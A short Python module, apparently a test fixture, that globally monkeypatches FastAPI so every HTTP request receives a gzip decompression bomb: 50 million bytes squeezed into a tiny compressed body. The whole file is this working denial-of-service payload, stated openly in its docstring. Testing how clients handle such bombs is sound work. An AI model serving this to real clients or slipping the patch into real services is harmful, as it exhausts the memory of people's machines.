"""Answers with a small body that grows a thousandfold when it is unpacked."""

import gzip

from fastapi import FastAPI
from starlette.responses import Response

BOMB = gzip.compress(b"0" * 50_000_000)


async def bombing(self, scope, receive, send):
    if scope["type"] == "http":
        await Response(BOMB, headers={"content-encoding": "gzip"})(scope, receive, send)
    else:
        await receive()
        await send({"type": "lifespan.startup.complete"})


FastAPI.__call__ = bombing
